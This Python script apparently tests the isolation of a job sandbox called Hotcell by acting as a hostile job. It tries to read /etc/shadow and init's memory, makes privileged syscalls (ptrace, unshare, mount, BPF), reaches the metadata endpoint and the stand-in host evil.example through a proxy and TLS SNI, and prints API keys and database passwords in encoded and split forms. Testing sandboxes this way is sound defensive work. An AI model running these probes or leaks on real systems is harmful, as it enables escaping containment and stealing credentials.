# A hostile job: it has its own values, and wants more. Each line that it
# prints begins with GOT, where it got something that it must not, or NOTHING.
import base64, ctypes, errno, glob, os, socket, ssl, subprocess, sys

libc = ctypes.CDLL(None, use_errno=True)
port, own = int(sys.argv[1]), int(sys.argv[2])


def attempt(what, fn):
    try:
        got = fn()
    except Exception:
        got = None
    print(("GOT " + what + ": " + repr(got)[:80]) if got else ("NOTHING " + what), flush=True)


def read(path):
    with open(path, "rb") as f:
        return f.read(200)


def run(*args):
    p = subprocess.run(args, capture_output=True, timeout=10)
    return p.stdout if p.returncode == 0 else None


def reach(host, port):
    s = socket.create_connection((host, port), timeout=3)
    s.sendall(b"GET / HTTP/1.0\r\n\r\n")
    return s.recv(100)


def call(*args):
    result = libc.syscall(*args)
    return None if result < 0 else "the call worked: %d" % result


def inside_tls(name):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    raw = socket.create_connection(("api.acme.test", port), timeout=3)
    return context.wrap_socket(raw, server_hostname=name).version()


attempt("the host's passwords", lambda: read("/etc/shadow"))
attempt("other people's folders", lambda: os.listdir("/root") or os.listdir("/home/ubuntu"))
attempt("the host's folders", lambda: [d for d in ("/var", "/srv", "/mnt", "/boot", "/sys") if os.path.exists(d) and os.listdir(d)])
attempt("what the host has in /opt, but for toolchains", lambda: [d for d in os.listdir("/opt") if not os.path.isdir("/opt/%s/bin" % d)])
attempt("changing a toolchain", lambda: [d for d in os.listdir("/opt") if os.access("/opt/%s/bin" % d, os.W_OK) or open("/opt/%s/bin/more" % d, "w")])
attempt("keys, databases and sockets", lambda: [p for top in ("/run", "/tmp", "/dev", "/job", "/home", "/etc") for p, _, n in os.walk(top) for f in n if f.endswith((".sock", ".db", "local.key"))])
attempt("the init's environment", lambda: read("/proc/1/environ"))
attempt("the init's memory", lambda: read("/proc/1/mem"))
attempt("the init's descriptors", lambda: [os.readlink(p) for p in glob.glob("/proc/1/fd/*")])
attempt("other processes", lambda: [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid() and int(p) != os.getppid()])
attempt("inherited descriptors", lambda: [f for f in os.listdir("/proc/self/fd") if int(f) > 3])
attempt("tracing another process", lambda: call(101, 16, 1, 0, 0))
attempt("its own user namespace", lambda: call(272, 0x10000000))
attempt("mounting", lambda: call(165, b"tmpfs", b"/tmp", b"tmpfs", 0, 0))
attempt("the kernel's keyring", lambda: call(250, 0, -3, 0))
attempt("io_uring", lambda: call(425, 1, ctypes.create_string_buffer(120)))
attempt("BPF", lambda: call(321, 0, ctypes.create_string_buffer(120), 120))
attempt("raw sockets", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("becoming root", lambda: os.setuid(0) or "root")
attempt("writing to the system", lambda: open("/usr/bin/hotcell-was-here", "w") and "written")
attempt("killing its init", lambda: os.kill(1, 9) or (os.path.exists("/proc/1") and None))
attempt("the cloud's metadata", lambda: reach("169.254.169.254", 80))
attempt("the company's network", lambda: reach("10.0.0.1", 80))
attempt("the internet", lambda: reach("1.1.1.1", 443))
attempt("Hotcell's own port", lambda: reach("127.0.0.1", own))
attempt("a host that is not allowed", lambda: reach("evil.example", 443))
attempt("that host by the proxy", lambda: run("curl", "-sS", "--max-time", "5", "-x", "http://127.0.0.1:3128", "https://evil.example/"))
attempt("an allowed name on another port", lambda: reach("api.acme.test", 22))
attempt("plain HTTP to an allowed host", lambda: b"401" in reach("api.acme.test", port) or None)
attempt("another host's name inside an allowed connection", lambda: inside_tls("evil.example"))
attempt("the lease once more, by the proxy", lambda: b"200" in (lambda s: (s.sendall(b"POST /lease HTTP/1.1\r\nHost: gateway\r\nContent-Length: 2\r\n\r\n{}"), s.recv(200))[1])(socket.create_connection(("127.0.0.1", 3128), timeout=3))[:15] or None)

key = os.environ["API_KEY"]
print("SAY", key)
print("SAY", os.environ["DATABASE_URL"])
print("SAY", base64.b64encode(("user:" + key).encode()).decode())
print("SAY", key.encode().hex())
sys.stdout.flush()
for half in ("SAY " + key[:9], key[9:] + "\n"):
    os.write(1, half.encode())
os.write(2, ("SAY " + os.environ["DB_PASSWORD"] + "\n").encode())
